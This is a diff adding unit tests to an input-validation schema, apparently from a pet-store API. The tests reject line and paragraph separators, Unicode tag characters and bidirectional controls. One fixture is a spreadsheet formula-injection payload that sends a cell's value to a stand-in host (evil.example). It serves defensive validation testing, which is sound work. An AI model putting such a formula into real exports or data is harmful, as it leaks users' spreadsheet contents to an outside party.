@@ -22,6 +22,7 @@ describe("humanText", () => {
   it("NFC-normalises and trims", () => {
     expect(name.parse("  Cafe\u0301 ")).toBe("Caf\u00e9");
     expect(name.parse("\u00a0Rex\u3000")).toBe("Rex");
+    expect(name.parse("\u2028Rex\u2029")).toBe("Rex");
     expect(name.parse("\u{1F415} Rex")).toBe("\u{1F415} Rex");
     expect(name.parse("ZW\u200Bsp")).toBe("ZW\u200Bsp");
   });
@@ -34,6 +35,13 @@ describe("humanText", () => {
     ["\u007fx", "must not contain control characters"],
     ["\u202Eevil", "must not contain bidirectional control characters"],
     ["a\u2066b\u2069", "must not contain bidirectional control characters"],
+    ["Rex\u2028Fido", "must not contain line or paragraph separators"],
+    ['=HYPERLINK("https://evil.example/?\u2028"&A1)', "must not contain line or paragraph separators"],
+    ["Rex\u2029Fido", "must not contain line or paragraph separators"],
+    ["Rex\u{E0001}", "must not contain tag characters"],
+    ["\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "must not contain tag characters"],
+    ["a\u{E0020}b", "must not contain tag characters"],
+    ["a\u{E0000}", "must not contain tag characters"],
     ["a\uD800", "must be valid Unicode text"],
     ["", "must not be empty"],
     ["   ", "must not be empty"],
@@ -62,10 +70,14 @@ describe("humanText", () => {
     for (const schema of [PetName, CategoryName, UserName]) {
       expect(schema.safeParse("a\u0000").success).toBe(false);
       expect(schema.safeParse("\u202Ex").success).toBe(false);
+      expect(schema.safeParse("a\u2028b").success).toBe(false);
+      expect(schema.safeParse("a\u2029b").success).toBe(false);
+      expect(schema.safeParse("a\u{E0041}b").success).toBe(false);
     }
     expect(NewPet.safeParse({ name: "\u200B", categoryId: 1 }).success).toBe(false);
     expect(ApiKeyCreate.safeParse({ name: "\u0000", plan: "free" }).success).toBe(false);
     expect(PetSearch.safeParse({ query: "a\u0000" }).success).toBe(false);
+    expect(PetSearch.safeParse({ query: "a\u2028b" }).success).toBe(false);
     expect(PetSearch.parse({ query: "" }).query).toBe("");
     expect(AuditLogQuery.safeParse({ actor: "user:\u0000" }).success).toBe(false);
     expect(AuditLogQuery.safeParse({ entityId: "\u0000" }).success).toBe(false);
